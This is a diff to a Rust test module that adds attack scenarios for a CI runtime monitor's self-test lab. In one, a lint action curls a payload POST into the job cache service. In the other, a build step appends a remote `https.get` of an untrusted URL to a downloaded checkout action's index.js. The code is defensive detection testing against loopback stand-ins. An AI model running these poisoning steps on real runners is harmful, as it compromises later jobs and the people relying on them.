@@ -9,7 +9,9 @@
 //!   exfiltration sink, mining pool);
 //! - `ACTIONS_ID_TOKEN_REQUEST_URL`/`_TOKEN`: a loopback token endpoint and a canary token,
 //!   as in a job with `id-token: write`;
-//! - `OUT`: a scratch directory for this job.
+//! - `OUT`: a scratch directory for this job;
+//! - in action steps (`<id> uses <owner/repo@ref>`) only, `ACTIONS_CACHE_URL`: a loopback
+//!   stand-in for the CI's cache service, as the runner gives actions.
 //!
 //! Nothing reads outside the lab: the memory dump and the environment harvest look only at
 //! processes started from the lab, never at a real runner's.
@@ -197,6 +199,47 @@ pub fn all() -> Vec<Scenario> {
             ),
         },
         Scenario {
+            name: "cache-service-from-another-action",
+            threat: "cache poisoning: a compromised action's post step writes the job's cache with the runtime token (whatever the workflow's permissions), so later jobs restore its payload",
+            needs: &["curl"],
+            kills_agent: false,
+            responses: false,
+            expect: &["runtime-service-call"],
+            attack: job(
+                "a lint action (not a cache action) posts a cache entry to $ACTIONS_CACHE_URL",
+                &[("lint uses acme/lint-action@v1", "curl -sS -o /dev/null -X POST --data-binary payload \"${ACTIONS_CACHE_URL}_apis/artifactcache/caches\"\n")],
+            ),
+            twin: job(
+                "actions/cache saves the job's cache the same way",
+                &[("cache uses actions/cache@v4", "curl -sS -o /dev/null -X POST --data-binary node_modules \"${ACTIONS_CACHE_URL}_apis/artifactcache/caches\"\n")],
+            ),
+        },
+        Scenario {
+            name: "action-poisoned-on-disk",
+            threat: "cache poisoning that persists on a self-hosted runner: a step rewrites a downloaded action's dist/index.js, which every later job using the action runs",
+            needs: &[],
+            kills_agent: false,
+            responses: false,
+            expect: &["action-tampered runner actions"],
+            attack: job(
+                "a step appends a payload to _actions/actions/checkout/v4/dist/index.js",
+                // A moment first: without the runner's hooks the agent learns the runner's
+                // directories from the job's first process (earlier jobs taught it already).
+                &[("build", "sleep 1
+A=\"$RUNNER_WORKSPACE/../_actions/actions/checkout/v4/dist\"
+mkdir -p \"$A\"
+echo 'require(\"https\").get(process.env.UNTRUSTED)' >> \"$A/index.js\"
+")],
+            ),
+            twin: job(
+                "the build writes its own dist/index.js in the workspace",
+                &[("build", "sleep 1
+mkdir -p \"$GITHUB_WORKSPACE/dist\"
+echo 'app()' > \"$GITHUB_WORKSPACE/dist/index.js\"
+")],
+            ),
+        },
+        Scenario {
             name: "workflow-and-shell-rc-persistence",
             threat: "Shai-Hulud / s1ngularity: writes a workflow file and appends to ~/.bashrc",
             needs: &["git"],
@@ -344,10 +387,10 @@ fn udp_send(url_var: &str, payload: &str) -> String {
 pub const RESPONSES_REPOSITORY: &str = "monitor/selftest-responses";
 
 /// The lab's profile with kill responses (`Scenario::responses`).
-pub fn responses_profile(registry_port: u16, oidc_port: u16) -> String {
+pub fn responses_profile(registry_port: u16, oidc_port: u16, cache_port: u16) -> String {
     format!(
         "{}responses:\n  process-memory-read: kill\n  process-environ-read: kill\n",
-        profile(registry_port, oidc_port)
+        profile(registry_port, oidc_port, cache_port)
     )
 }
 
@@ -358,13 +401,14 @@ pub fn config() -> String {
     )
 }
 
-pub fn profile(registry_port: u16, oidc_port: u16) -> String {
+pub fn profile(registry_port: u16, oidc_port: u16, cache_port: u16) -> String {
     format!(
         "version: 1
 egress:
   allow:
     - \"127.0.0.1:{registry_port}\"
     - \"127.0.0.1:{oidc_port}\"
+    - \"127.0.0.1:{cache_port}\"
 lifecycle:
   allow:
     - {{ ecosystem: npm, package: native-prebuilt }}
